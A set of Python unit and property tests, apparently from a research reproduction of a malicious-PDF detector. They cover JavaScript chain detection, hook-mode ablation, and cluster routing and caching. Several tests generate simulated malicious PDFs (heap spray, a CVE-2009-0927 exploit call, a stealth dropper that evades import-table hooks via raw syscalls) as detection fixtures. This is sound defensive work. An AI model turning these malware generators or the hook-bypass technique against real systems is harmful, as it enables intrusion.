