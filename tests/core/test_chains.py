"""Unit tests for JavaScript chain reconstruction (F1)."""

from repro.core.chains import analyze_chains
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument


def analyzed(builder: DocumentBuilder):
    return analyze_chains(PDFDocument.from_bytes(builder.to_bytes()))


class TestChainDiscovery:
    def test_no_javascript_no_chains(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        analysis = analyzed(builder)
        assert not analysis.has_javascript
        assert analysis.ratio == 0.0

    def test_single_chain_found(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var a = 1;")
        analysis = analyzed(builder)
        assert analysis.has_javascript
        assert len(analysis.chains) >= 1

    def test_chain_includes_ancestors_and_descendants(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var a = 1;", encoding_levels=1)  # code in stream
        analysis = analyzed(builder)
        chain = analysis.chains[0]
        # catalog (ancestor) + action (hit) + code stream (descendant)
        assert len(chain.members) >= 3

    def test_hex_escaped_keyword_still_found(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var hid = 1;", hex_obfuscate_keyword=True)
        analysis = analyzed(builder)
        assert analysis.has_javascript

    def test_triggered_chain_labelled(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var t = 1;", trigger="OpenAction")
        analysis = analyzed(builder)
        assert any(c.triggered and c.trigger == "OpenAction" for c in analysis.chains)

    def test_names_trigger_labelled(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var n = 1;", trigger="Names", name="boot")
        analysis = analyzed(builder)
        assert any(c.trigger == "Names" for c in analysis.triggered_chains())

    def test_untriggered_js_not_triggered(self):
        from repro.pdf.objects import PDFDict, PDFName, PDFString

        builder = DocumentBuilder()
        builder.add_page("x")
        # JS action present in the body, but nothing references it from
        # a trigger — e.g. leftover from an editor.
        builder.document.add_object(
            PDFDict(
                {PDFName("S"): PDFName("JavaScript"), PDFName("JS"): PDFString(b"var o = 1;")}
            )
        )
        analysis = analyzed(builder)
        assert analysis.has_javascript
        assert not any(c.triggered for c in analysis.chains)


class TestRatio:
    def test_padding_lowers_ratio(self):
        lean = DocumentBuilder()
        lean.add_page("")
        lean.add_javascript("var a = 1;")
        padded = DocumentBuilder()
        padded.add_page("")
        padded.add_javascript("var a = 1;")
        padded.pad_with_objects(50)
        assert analyzed(padded).ratio < analyzed(lean).ratio

    def test_chain_depth_raises_chain_size(self):
        shallow = DocumentBuilder()
        shallow.add_page("")
        shallow.add_javascript("var a = 1;")
        deep = DocumentBuilder()
        deep.add_page("")
        deep.add_javascript("var a = 1;", chain_depth=3)
        assert len(analyzed(deep).chain_objects) > len(analyzed(shallow).chain_objects)

    def test_ratio_one_document(self):
        from repro.corpus.malicious import MaliciousFactory, MaliciousKind, MaliciousSpec

        factory = MaliciousFactory()
        spec = MaliciousSpec(
            index=0, seed=1, kind=MaliciousKind.STANDARD, cve="CVE-2009-0927",
            payload_kind="dropper", spray_mb=120, ratio_one=True,
        )
        data = factory.build(spec)
        analysis = analyze_chains(PDFDocument.from_bytes(data))
        assert analysis.ratio == 1.0

    def test_typical_malicious_ratio_above_threshold(self):
        builder = DocumentBuilder()
        builder.add_page("")  # one blank page
        builder.add_javascript("var spray = 1;")
        assert analyzed(builder).ratio >= 0.2

    def test_typical_benign_ratio_below_threshold(self):
        builder = DocumentBuilder()
        for i in range(6):
            builder.add_page(f"page {i}")
        builder.pad_with_objects(40)
        builder.add_javascript("var v = 1;")
        assert analyzed(builder).ratio < 0.2
