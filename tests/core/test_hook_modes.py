"""Tests for the IAT vs kernel-mode (SSDT) hook ablation (§III-E).

The paper's prototype hooks the import address table and acknowledges
that direct kernel calls bypass it, planning "advanced kernel mode
hooks" as hardening.  Both modes exist here; a stealth payload that
drops+launches via raw syscalls demonstrates the difference.
"""

import random


from repro.core.pipeline import ProtectionPipeline
from repro.corpus import js_snippets as js
from repro.pdf.builder import DocumentBuilder
from repro.reader.exploits import CVE
from repro.reader.payload import Payload
from repro.winapi.hooks import HookMode


def stealth_doc(seed: int = 21, spray_mb: int = 150) -> bytes:
    rng = random.Random(seed)
    builder = DocumentBuilder()
    builder.add_page("")
    builder.pad_with_objects(40)  # keep static features quiet
    builder.add_javascript(
        js.spray_script(
            spray_mb,
            Payload.stealth_dropper("C:\\Temp\\ghost.exe"),
            rng=rng,
            exploit_call=js.exploit_call_for(CVE.COLLAB_GET_ICON, rng),
        )
    )
    return builder.to_bytes()


class TestHookLayerModes:
    def test_iat_hooks_blind_to_direct_calls(self):
        from repro.winapi.hooks import IATHookLayer
        from repro.winapi.process import System
        from repro.winapi.syscalls import API, SyscallGateway

        system = System()
        reader = system.spawn_reader()
        layer = IATHookLayer(reader, None, mode=HookMode.IAT)
        reader.iat_hooks = layer
        gateway = SyscallGateway(system)
        gateway.invoke(
            reader, API.NT_CREATE_FILE, via_import_table=False, path="C:\\g.exe"
        )
        assert not layer.captured
        assert layer.bypassed
        assert system.filesystem.exists("C:\\g.exe")  # the call succeeded

    def test_ssdt_hooks_see_direct_calls(self):
        from repro.winapi.hooks import IATHookLayer
        from repro.winapi.process import System
        from repro.winapi.syscalls import API, SyscallGateway

        system = System()
        reader = system.spawn_reader()
        layer = IATHookLayer(reader, None, mode=HookMode.SSDT)
        reader.iat_hooks = layer
        gateway = SyscallGateway(system)
        gateway.invoke(
            reader, API.NT_CREATE_FILE, via_import_table=False, path="C:\\g.exe"
        )
        assert layer.captured
        assert not layer.bypassed

    def test_normal_calls_seen_by_both_modes(self):
        from repro.winapi.hooks import IATHookLayer
        from repro.winapi.process import System
        from repro.winapi.syscalls import API, SyscallGateway

        for mode in (HookMode.IAT, HookMode.SSDT):
            system = System()
            reader = system.spawn_reader()
            layer = IATHookLayer(reader, None, mode=mode)
            reader.iat_hooks = layer
            SyscallGateway(system).invoke(reader, API.NT_CREATE_FILE, path="C:\\n.exe")
            assert layer.captured, mode


class TestStealthPayloadEndToEnd:
    def test_iat_mode_misses_stealth_dropper(self):
        pipe = ProtectionPipeline(seed=303, hook_mode=HookMode.IAT)
        report = pipe.scan(stealth_doc(), "stealth.pdf")
        fired = set(report.verdict.features.fired())
        # The spray is still visible (memory counters are read directly,
        # not via hooks), but drop/exec never reach the detector.
        assert 11 not in fired and 12 not in fired
        # ... and the malware actually landed, unconfined:
        # (verdict may or may not cross the threshold via F8 alone — with
        # quiet static features it stays below it)
        assert not report.verdict.malicious

    def test_ssdt_mode_catches_stealth_dropper(self):
        pipe = ProtectionPipeline(seed=303, hook_mode=HookMode.SSDT)
        report = pipe.scan(stealth_doc(), "stealth.pdf")
        fired = set(report.verdict.features.fired())
        assert {11, 12} <= fired
        assert report.verdict.malicious

    def test_conventional_malware_caught_in_both_modes(self, malicious_doc_bytes):
        for mode in (HookMode.IAT, HookMode.SSDT):
            pipe = ProtectionPipeline(seed=304, hook_mode=mode)
            report = pipe.scan(malicious_doc_bytes, "normal.pdf")
            assert report.verdict.malicious, mode
