"""Hypothesis equivalence properties: the cluster is just a pipeline.

Whatever sequence of documents you feed it — duplicates, any order,
caching on or off, shards restarting mid-run — the multiset of
verdicts coming out of the cluster must equal the multiset a plain
sequential ``pipeline.scan`` produces.  Sharding is a throughput
topology, never a semantics change.

(The routing-layer properties — pure function of digest, removal
remaps only the dead shard's keys — live in ``test_ring.py``.)
"""

from __future__ import annotations

from collections import Counter
from typing import Dict, Tuple

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro.core.pipeline import ProtectionPipeline
from repro.pdf.builder import DocumentBuilder

from tests.cluster.conftest import SEED, cluster_config
from tests.serve.conftest import service_settings

pytestmark = pytest.mark.cluster

Verdict = Tuple[bool, float, bool]


def _build_pool() -> Dict[str, bytes]:
    """Six deterministic documents with distinct digests."""
    from tests.conftest import spray_js

    pool: Dict[str, bytes] = {}
    for i in range(3):
        doc = DocumentBuilder()
        doc.add_page(f"benign document {i}")
        doc.add_javascript(f"var serial = {i}; app.alert(serial);")
        pool[f"benign-{i}.pdf"] = doc.to_bytes()
    evil = DocumentBuilder()
    evil.add_page("")
    evil.add_javascript(spray_js())
    pool["malicious.pdf"] = evil.to_bytes()
    plain = DocumentBuilder()
    plain.add_page("no scripts here")
    pool["plain.pdf"] = plain.to_bytes()
    pool["garbage.pdf"] = b"%PDF-1.4 not really a document"
    return pool


POOL = _build_pool()
NAMES = sorted(POOL)


@pytest.fixture(scope="module")
def sequential_verdicts() -> Dict[str, Verdict]:
    pipeline = ProtectionPipeline(seed=SEED)
    out: Dict[str, Verdict] = {}
    for name, data in POOL.items():
        report = pipeline.scan(data, name)
        out[name] = (
            report.verdict.malicious,
            round(report.verdict.malscore, 9),
            report.errored,
        )
    return out


@pytest.fixture(scope="module")
def property_cluster():
    from repro.cluster import ClusterRouter

    router = ClusterRouter(
        settings=service_settings(), config=cluster_config(shards=3)
    ).start()
    assert router.wait_all_live(timeout=30.0)
    yield router
    router.drain(timeout=30.0)


def cluster_verdict(result) -> Verdict:
    assert result.status == 200, result.payload
    verdict = result.payload["verdict"]
    return (
        verdict["malicious"],
        round(verdict["malscore"], 9),
        verdict["errored"],
    )


corpora = st.lists(st.sampled_from(NAMES), min_size=1, max_size=8)


class TestVerdictMultisetEquivalence:
    @settings(
        max_examples=8, deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(sequence=corpora)
    def test_cache_on(self, property_cluster, sequential_verdicts, sequence):
        got = Counter(
            (name, cluster_verdict(
                property_cluster.handle_scan(POOL[name], name)
            ))
            for name in sequence
        )
        want = Counter((name, sequential_verdicts[name]) for name in sequence)
        assert got == want

    @settings(
        max_examples=5, deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture],
    )
    @given(sequence=corpora)
    def test_cache_off(self, property_cluster, sequential_verdicts, sequence):
        got = Counter(
            (name, cluster_verdict(
                property_cluster.handle_scan(POOL[name], name, use_cache=False)
            ))
            for name in sequence
        )
        want = Counter((name, sequential_verdicts[name]) for name in sequence)
        assert got == want

    @settings(
        max_examples=3, deadline=None,
        suppress_health_check=[
            HealthCheck.function_scoped_fixture,
            HealthCheck.too_slow,
        ],
    )
    @given(
        sequence=st.lists(st.sampled_from(NAMES), min_size=2, max_size=6),
        restart_shard=st.integers(min_value=0, max_value=2),
    )
    def test_mid_run_restart(
        self, property_cluster, sequential_verdicts, sequence, restart_shard
    ):
        """Respawn a shard halfway through the run: verdicts still match
        the sequential pipeline exactly."""
        split = len(sequence) // 2
        results = [
            (name, cluster_verdict(
                property_cluster.handle_scan(POOL[name], name)
            ))
            for name in sequence[:split]
        ]
        property_cluster.respawn_shard(restart_shard, reason="property-test")
        assert property_cluster.wait_all_live(timeout=30.0)
        results += [
            (name, cluster_verdict(
                property_cluster.handle_scan(POOL[name], name)
            ))
            for name in sequence[split:]
        ]
        want = Counter((name, sequential_verdicts[name]) for name in sequence)
        assert Counter(results) == want

    def test_batch_equals_sequential(self, property_cluster,
                                     sequential_verdicts):
        """The batch endpoint on the full pool, twice over: multiset
        equality including the duplicated copies."""
        items = [(name, POOL[name]) for name in NAMES for _ in range(2)]
        result = property_cluster.handle_batch(items)
        assert result.status == 200
        got = Counter(
            (entry["name"], (
                entry["verdict"]["malicious"],
                round(entry["verdict"]["malscore"], 9),
                entry["verdict"]["errored"],
            ))
            for entry in result.payload["items"]
        )
        want = Counter(
            (name, sequential_verdicts[name]) for name, _ in items
        )
        assert got == want
