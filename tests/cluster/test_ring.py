"""Consistent-hash ring unit and property tests.

The two properties the cluster's cache locality and hot-respawn story
rest on:

* routing is a **pure function of the digest** (and the live set) —
  same digest, same owner, forever;
* taking one shard out **only remaps that shard's keys** — every key
  owned by a surviving shard keeps its owner.
"""

from __future__ import annotations

import hashlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.cluster.ring import HashRing

pytestmark = pytest.mark.cluster


def digest_of(index: int) -> str:
    return hashlib.sha256(f"document-{index}".encode()).hexdigest()


DIGESTS = [digest_of(i) for i in range(400)]


class TestHashRingBasics:
    def test_owner_is_deterministic(self):
        ring = HashRing(range(4))
        again = HashRing(range(4))
        for digest in DIGESTS:
            assert ring.owner(digest) == again.owner(digest)

    def test_owner_in_shard_set(self):
        ring = HashRing(range(5))
        for digest in DIGESTS:
            assert ring.owner(digest) in ring.shard_ids

    def test_all_shards_get_keys(self):
        """64 vnodes keep small fleets balanced enough that 400 keys
        touch every shard."""
        ring = HashRing(range(4))
        owners = {ring.owner(digest) for digest in DIGESTS}
        assert owners == set(range(4))

    def test_preference_is_a_permutation(self):
        ring = HashRing(range(6))
        for digest in DIGESTS[:50]:
            order = ring.preference(digest)
            assert sorted(order) == list(range(6))
            assert order[0] == ring.owner(digest)

    def test_single_shard_owns_everything(self):
        ring = HashRing([0])
        assert all(ring.owner(d) == 0 for d in DIGESTS[:20])

    def test_empty_live_set_has_no_owner(self):
        ring = HashRing(range(3))
        assert ring.owner(DIGESTS[0], live=set()) is None

    def test_rejects_bad_construction(self):
        with pytest.raises(ValueError):
            HashRing([])
        with pytest.raises(ValueError):
            HashRing([0], replicas=0)

    def test_ranges_cover_all_vnodes(self):
        ring = HashRing(range(3), replicas=16)
        points = ring.ranges()
        assert len(points) == 3 * 16
        assert list(points) == sorted(points)


class TestRemovalStability:
    def test_removing_one_shard_only_remaps_its_keys(self):
        ring = HashRing(range(4))
        full = set(range(4))
        before = {digest: ring.owner(digest) for digest in DIGESTS}
        for dead in range(4):
            live = full - {dead}
            for digest, owner in before.items():
                moved = ring.owner(digest, live=live)
                if owner == dead:
                    assert moved in live
                else:
                    assert moved == owner, (
                        f"key owned by live shard {owner} moved when "
                        f"shard {dead} died"
                    )

    def test_keys_snap_back_after_respawn(self):
        ring = HashRing(range(3))
        digest = DIGESTS[0]
        owner = ring.owner(digest)
        without = ring.owner(digest, live=set(range(3)) - {owner})
        assert without != owner
        assert ring.owner(digest, live=set(range(3))) == owner


@st.composite
def hex_digests(draw) -> str:
    raw = draw(st.binary(min_size=8, max_size=64))
    return hashlib.sha256(raw).hexdigest()


class TestRingProperties:
    @settings(max_examples=50, deadline=None)
    @given(digest=hex_digests(), shards=st.integers(min_value=1, max_value=8))
    def test_routing_pure_function_of_digest(self, digest, shards):
        ring = HashRing(range(shards))
        owner = ring.owner(digest)
        assert owner == ring.owner(digest)
        assert owner == HashRing(range(shards)).owner(digest)
        assert owner in range(shards)

    @settings(max_examples=30, deadline=None)
    @given(
        digest=hex_digests(),
        shards=st.integers(min_value=2, max_value=8),
        data=st.data(),
    )
    def test_removal_remaps_only_dead_keys(self, digest, shards, data):
        ring = HashRing(range(shards))
        dead = data.draw(st.integers(min_value=0, max_value=shards - 1))
        owner = ring.owner(digest)
        live = set(range(shards)) - {dead}
        after = ring.owner(digest, live=live)
        if owner == dead:
            assert after in live
            # ...and specifically the next shard in preference order.
            preference = ring.preference(digest)
            assert after == next(s for s in preference if s != dead)
        else:
            assert after == owner
