"""Router behaviour on a healthy cluster, plus ShardServer dispatch.

Fault injection lives in ``test_faults.py``; this module covers the
sunny-day contract: verdict identity with the one-shot pipeline, digest
affinity (same document, same shard, cached repeat), the async-job
affinity tokens that fix the process-local JobRegistry problem, and the
introspection surface the HTTP layer mounts.

:class:`ShardServer` also runs here *in-process on a thread*, so the
frame dispatch table is covered without forking.
"""

from __future__ import annotations

import time

import pytest

from repro.batch.cache import content_digest
from repro.cluster import ClusterRouter, ShardConfig, ShardServer
from repro.cluster.transport import request
from repro.cluster.worker import build_service
from repro.serve import start_server

from tests.cluster.conftest import cluster_config
from tests.serve.conftest import (
    assert_verdict_matches,
    http_get,
    http_post,
    service_settings,
)

pytestmark = pytest.mark.cluster


class TestRouting:
    def test_verdicts_match_one_shot_pipeline(
        self, shared_cluster, corpus_docs, expected_verdicts
    ):
        for name, expected in expected_verdicts.items():
            result = shared_cluster.handle_scan(corpus_docs[name], name)
            assert result.status == 200, (name, result.payload)
            assert_verdict_matches(result.payload, expected, name)

    def test_digest_affinity_and_cache_hit(self, shared_cluster, corpus_docs):
        data = corpus_docs["benign.pdf"]
        first = shared_cluster.handle_scan(data, "affinity.pdf")
        second = shared_cluster.handle_scan(data, "affinity.pdf")
        assert first.status == second.status == 200
        assert first.payload["shard"] == second.payload["shard"]
        assert first.payload["sha256"] == second.payload["sha256"]
        assert second.payload["cached"] is True

    def test_routing_matches_the_ring(self, shared_cluster, corpus_docs):
        for name, data in corpus_docs.items():
            if name == "bomb.pdf":
                continue
            result = shared_cluster.handle_scan(data, name)
            assert result.status == 200
            assert result.payload["shard"] == shared_cluster.ring.owner(
                content_digest(data)
            )

    def test_batch_is_multi_status(self, shared_cluster, corpus_docs,
                                   expected_verdicts):
        items = [
            (name, corpus_docs[name]) for name in sorted(expected_verdicts)
        ]
        result = shared_cluster.handle_batch(items)
        assert result.status == 200
        assert result.payload["counts"]["ok"] == len(items)
        entries = result.payload["items"]
        assert len(entries) == len(items)
        for entry in entries:
            assert entry["status"] == 200
            assert_verdict_matches(
                entry, expected_verdicts[entry["name"]], entry["name"]
            )

    def test_per_request_limits_ride_through(self, shared_cluster,
                                             corpus_docs):
        from tests.serve.conftest import BOMB_LIMITS_SPEC

        result = shared_cluster.handle_scan(
            corpus_docs["bomb.pdf"], "bomb.pdf", limits_spec=BOMB_LIMITS_SPEC
        )
        assert result.status == 200
        assert result.payload["verdict"]["errored"] is True

    def test_use_cache_false_bypasses_cache(self, shared_cluster,
                                            corpus_docs):
        data = corpus_docs["plain.pdf"]
        shared_cluster.handle_scan(data, "warm.pdf")
        result = shared_cluster.handle_scan(data, "warm.pdf", use_cache=False)
        assert result.status == 200
        assert result.payload["cached"] is False


class TestAsyncJobs:
    def test_submit_poll_roundtrip(self, shared_cluster, corpus_docs,
                                   expected_verdicts):
        data = corpus_docs["malicious.pdf"]
        submitted = shared_cluster.handle_async_submit(data, "async.pdf")
        assert submitted.status == 202
        token = submitted.payload["job"]
        shard = submitted.payload["shard"]
        assert token.startswith(f"s{shard}.g")
        assert submitted.payload["poll"] == f"/jobs/{token}"
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            polled = shared_cluster.handle_job_status(token)
            assert polled.status in (200, 202), polled.payload
            if polled.status == 200 and polled.payload.get("state") == "done":
                break
            time.sleep(0.05)
        else:
            pytest.fail("async job never completed")
        assert polled.payload["shard"] == shard
        assert_verdict_matches(
            polled.payload["result"], expected_verdicts["malicious.pdf"]
        )

    def test_malformed_job_token_is_structured_404(self, shared_cluster):
        for bad in ("nonsense", "s0.gX.abc", "jobs-from-the-old-world"):
            result = shared_cluster.handle_job_status(bad)
            assert result.status == 404
            assert result.payload["reason"] == "bad-job-id"

    def test_token_naming_missing_shard_is_404(self, shared_cluster):
        result = shared_cluster.handle_job_status("s99.g0.deadbeef")
        assert result.status == 404
        assert result.payload["reason"] == "bad-job-id"

    def test_unknown_job_on_right_shard_is_404(self, shared_cluster):
        generation = shared_cluster.shards[0].generation
        result = shared_cluster.handle_job_status(
            f"s0.g{generation}.0000000000000000"
        )
        assert result.status == 404
        assert result.payload["reason"] == "unknown-job"


class TestIntrospection:
    def test_health_reports_all_live(self, shared_cluster):
        result = shared_cluster.health()
        assert result.status == 200
        assert result.payload["status"] == "ok"
        assert result.payload["live_shards"] == 2
        states = {s["state"] for s in result.payload["shards"]}
        assert states == {"live"}

    def test_metrics_aggregate_router_and_shards(self, shared_cluster,
                                                 corpus_docs):
        shared_cluster.handle_scan(corpus_docs["plain.pdf"], "metrics.pdf")
        result = shared_cluster.metrics()
        assert result.status == 200
        router = result.payload["router"]
        assert router["requests"] >= 1
        assert "200" in router["by_status"]
        assert set(result.payload["shards"]) == {"0", "1"}

    def test_prometheus_rendering(self, shared_cluster):
        text = shared_cluster.metrics_prometheus()
        assert "repro_cluster_live_shards 2" in text
        assert 'repro_cluster_shard_up{shard="0"} 1' in text

    def test_debug_slow_per_shard(self, shared_cluster):
        result = shared_cluster.debug_slow()
        assert result.status == 200
        assert set(result.payload["shards"]) == {"0", "1"}

    def test_stats_snapshot(self, shared_cluster):
        stats = shared_cluster.stats()
        assert {"requests", "by_status", "by_shard", "reroutes",
                "respawns"} <= set(stats)


class TestLifecycle:
    def test_drain_is_terminal(self, make_cluster, corpus_docs):
        router = make_cluster(cluster_config(shards=2))
        assert router.handle_scan(corpus_docs["plain.pdf"]).status == 200
        assert router.drain(timeout=30.0) is True
        after = router.handle_scan(corpus_docs["plain.pdf"])
        assert after.status == 503
        assert after.payload["reason"] == "draining"
        with pytest.raises(RuntimeError):
            router.start()

    def test_router_deadline_sheds_instead_of_hanging(self, corpus_docs):
        router = ClusterRouter(
            settings=service_settings(),
            config=cluster_config(shards=1, deadline_seconds=0.000001),
        ).start()
        try:
            assert router.wait_all_live(timeout=30.0)
            result = router.handle_scan(corpus_docs["plain.pdf"], "late.pdf")
            assert result.status == 503
            assert result.payload["reason"] in (
                "router-deadline", "queue-deadline",
            )
            assert result.retry_after is not None
        finally:
            router.drain(timeout=30.0)


class TestHttpEndToEnd:
    @pytest.fixture(scope="class")
    def cluster_url(self):
        router = ClusterRouter(
            settings=service_settings(), config=cluster_config()
        )
        handle = start_server(router)
        assert router.wait_all_live(timeout=30.0)
        yield handle.url
        handle.stop()

    def test_scan_over_http(self, cluster_url, corpus_docs,
                            expected_verdicts):
        status, payload, _headers = http_post(
            cluster_url + "/scan?name=http.pdf", corpus_docs["malicious.pdf"]
        )
        assert status == 200
        assert_verdict_matches(payload, expected_verdicts["malicious.pdf"])
        assert "shard" in payload

    def test_async_over_http(self, cluster_url, corpus_docs):
        status, payload, _headers = http_post(
            cluster_url + "/scan?mode=async", corpus_docs["benign.pdf"]
        )
        assert status == 202
        poll = cluster_url + payload["poll"]
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline:
            status, payload, _headers = http_get(poll)
            if status == 200 and payload.get("state") == "done":
                return
            time.sleep(0.05)
        pytest.fail("async job never completed over HTTP")

    def test_health_and_metrics_endpoints(self, cluster_url):
        status, payload, _ = http_get(cluster_url + "/healthz")
        assert status == 200 and payload["live_shards"] == 2
        status, payload, _ = http_get(cluster_url + "/metrics")
        assert status == 200 and "router" in payload


class TestShardServerDispatch:
    """The frame vocabulary, exercised in-process (no fork)."""

    @pytest.fixture(scope="class")
    def shard(self):
        config = ShardConfig(
            shard_id=7, settings=service_settings(), jobs=1,
            deadline_seconds=15.0,
        )
        server = ShardServer(build_service(config), shard_id=7).start()
        yield server
        server.stop()

    def test_ping(self, shard):
        reply = request(shard.address, {"op": "ping"})
        assert reply["ok"] is True and reply["shard"] == 7

    def test_scan_frame(self, shard, corpus_docs, expected_verdicts):
        import base64

        reply = request(shard.address, {
            "op": "scan", "name": "frame.pdf",
            "data_b64": base64.b64encode(corpus_docs["benign.pdf"]).decode(),
        }, timeout=60.0)
        assert reply["status"] == 200
        assert_verdict_matches(
            reply["payload"], expected_verdicts["benign.pdf"]
        )

    def test_bad_base64_is_400(self, shard):
        reply = request(shard.address, {
            "op": "scan", "data_b64": "!!! not base64 !!!",
        })
        assert reply["status"] == 400

    def test_unknown_op_is_400(self, shard):
        reply = request(shard.address, {"op": "frobnicate"})
        assert reply["ok"] is False and reply["status"] == 400

    def test_health_frame_carries_identity(self, shard):
        reply = request(shard.address, {"op": "health"})
        assert reply["payload"]["shard"] == 7
        assert "abandoned_workers" in reply["payload"]

    def test_job_frame_unknown(self, shard):
        reply = request(shard.address, {"op": "job", "job": "missing"})
        assert reply["status"] == 404
