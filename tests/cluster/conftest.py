"""Fixtures for the sharded-cluster tests.

The corpus and expected verdicts are shared with the scan-service
suite (``tests/serve/conftest.py``): every cluster test asserts verdict
identity against one-shot ``pipeline.scan`` runs, so routing, shard
respawn and cache topology can never change what a document scans as.

Clusters fork real shard processes, so fixtures keep fleets small
(2-3 shards, 1-2 workers each) and module-scoped where tests don't
mutate cluster state.  Fault tests build their own throwaway clusters
through ``make_cluster`` so a SIGKILLed shard can't leak into the next
test.
"""

from __future__ import annotations

from typing import Callable, List, Optional

import pytest

# Shared corpus/expectation fixtures and HTTP helpers.  Importing the
# fixture functions registers them for this package too.
from tests.serve.conftest import (  # noqa: F401 - re-exported fixtures
    SEED,
    assert_verdict_matches,
    corpus_docs,
    expected_verdicts,
    http_get,
    http_post,
    service_settings,
)

from repro.cluster import CacheSpec, ClusterConfig, ClusterRouter


def cluster_config(**overrides) -> ClusterConfig:
    """Small, fast-probing cluster sized for the test machine."""
    defaults = dict(
        shards=2,
        shard_jobs=1,
        queue_depth=8,
        deadline_seconds=30.0,
        retry_after_seconds=1.0,
        probe_interval=0.2,
        probe_timeout=2.0,
        terminate_grace=1.0,
    )
    defaults.update(overrides)
    return ClusterConfig(**defaults)


@pytest.fixture()
def make_cluster() -> Callable[..., ClusterRouter]:
    """Factory for throwaway clusters; everything drains at teardown."""
    routers: List[ClusterRouter] = []

    def build(
        config: Optional[ClusterConfig] = None,
        cache: Optional[CacheSpec] = None,
        **router_kwargs,
    ) -> ClusterRouter:
        router = ClusterRouter(
            settings=service_settings(),
            config=config if config is not None else cluster_config(),
            cache=cache,
            **router_kwargs,
        ).start()
        routers.append(router)
        assert router.wait_all_live(timeout=30.0), "cluster failed to boot"
        return router

    yield build
    for router in routers:
        router.drain(timeout=30.0)


@pytest.fixture(scope="module")
def shared_cluster():
    """One read-mostly 2-shard cluster for the whole module.

    Tests that kill or wedge shards must NOT use this — build a private
    cluster with ``make_cluster`` instead.
    """
    router = ClusterRouter(
        settings=service_settings(), config=cluster_config()
    ).start()
    assert router.wait_all_live(timeout=30.0), "cluster failed to boot"
    yield router
    router.drain(timeout=30.0)
