"""Parametric conformance suite for every :class:`CacheBackend`.

One set of semantics, three implementations: the in-memory LRU
(:class:`VerdictCache`), the write-through on-disk backend
(:class:`DiskCacheBackend`) and the socket-backed shared cache
(:class:`SocketCacheBackend` against an in-process
:class:`CacheServer`).  The protocol docstring in
``repro.batch.cache`` is the contract; this file is its executable
form, so a fourth backend only has to add a harness below.
"""

from __future__ import annotations

import json
import threading
from typing import Optional

import pytest

from repro.batch.cache import CacheBackend, VerdictCache
from repro.batch.report import VerdictSummary
from repro.cluster.cache import (
    CacheServer,
    CacheSpec,
    DiskCacheBackend,
    SocketCacheBackend,
    build_backend,
)

pytestmark = pytest.mark.cluster


def summary(score: float = 0.9, malicious: bool = True) -> VerdictSummary:
    return VerdictSummary(
        malicious=malicious, malscore=score, features=("heap_spray",)
    )


class MemoryHarness:
    """Plain LRU: no shared store, reopening starts empty."""

    shared_store = False

    def __init__(self, tmp_path) -> None:
        pass

    def make(self, fingerprint: str = "fp") -> VerdictCache:
        return VerdictCache(fingerprint=fingerprint)

    def cleanup(self) -> None:
        pass


class DiskHarness:
    """Write-through JSON file: reopening sees persisted entries."""

    shared_store = True

    def __init__(self, tmp_path) -> None:
        self.path = tmp_path / "verdicts.json"

    def make(self, fingerprint: str = "fp") -> DiskCacheBackend:
        return DiskCacheBackend(self.path, fingerprint=fingerprint)

    def cleanup(self) -> None:
        pass


class ServerHarness:
    """Socket client against one in-process cache server."""

    shared_store = True

    def __init__(self, tmp_path) -> None:
        self.server = CacheServer(fingerprint="fp").start()
        self.backends = []

    def make(self, fingerprint: str = "fp") -> SocketCacheBackend:
        backend = SocketCacheBackend(
            self.server.address, fingerprint=fingerprint
        )
        self.backends.append(backend)
        return backend

    def cleanup(self) -> None:
        self.server.stop()


HARNESSES = {
    "memory": MemoryHarness,
    "disk": DiskHarness,
    "server": ServerHarness,
}


@pytest.fixture(params=sorted(HARNESSES))
def harness(request, tmp_path):
    h = HARNESSES[request.param](tmp_path)
    yield h
    h.cleanup()


DIGEST = "ab" * 32
OTHER = "cd" * 32


class TestConformance:
    def test_satisfies_protocol(self, harness):
        backend = harness.make()
        assert isinstance(backend, CacheBackend)
        assert backend.fingerprint == "fp"

    def test_put_get_roundtrip(self, harness):
        backend = harness.make()
        entry = summary()
        backend.put(DIGEST, entry)
        got = backend.get(DIGEST)
        assert got is not None
        assert got.malicious == entry.malicious
        assert got.malscore == pytest.approx(entry.malscore)
        assert tuple(got.features) == entry.features

    def test_miss_returns_none_and_counts(self, harness):
        backend = harness.make()
        before = backend.stats["misses"]
        assert backend.get(OTHER) is None
        assert backend.stats["misses"] == before + 1

    def test_hit_counts(self, harness):
        backend = harness.make()
        backend.put(DIGEST, summary())
        before = backend.stats["hits"]
        assert backend.get(DIGEST) is not None
        assert backend.stats["hits"] == before + 1

    def test_never_stores_errored_summaries(self, harness):
        backend = harness.make()
        backend.put(DIGEST, VerdictSummary(
            malicious=False, malscore=0.0, errored=True, error="boom",
        ))
        assert backend.get(DIGEST) is None

    def test_fingerprint_mismatch_is_a_miss(self, harness):
        """A different detector configuration must never see a stale
        verdict — reopening the same store under another fingerprint
        misses."""
        writer = harness.make(fingerprint="fp")
        writer.put(DIGEST, summary())
        writer.flush()
        reader = harness.make(fingerprint="other-settings")
        assert reader.get(DIGEST) is None

    def test_same_fingerprint_shares_store(self, harness):
        if not harness.shared_store:
            pytest.skip("memory backend has no shared store")
        writer = harness.make()
        writer.put(DIGEST, summary())
        writer.flush()
        reader = harness.make()
        assert reader.get(DIGEST) is not None

    def test_concurrent_writers_lose_nothing(self, harness):
        """32 threads hammering put/get: every stored digest must be
        retrievable afterwards and no writer may corrupt the store."""
        backend = harness.make()
        digests = [f"{i:02x}" * 32 for i in range(32)]
        errors = []

        def work(digest: str, index: int) -> None:
            try:
                backend.put(digest, summary(score=index / 100.0))
                backend.get(digest)
            except Exception as error:  # noqa: BLE001
                errors.append(error)

        threads = [
            threading.Thread(target=work, args=(d, i))
            for i, d in enumerate(digests)
        ]
        for t in threads:
            t.start()
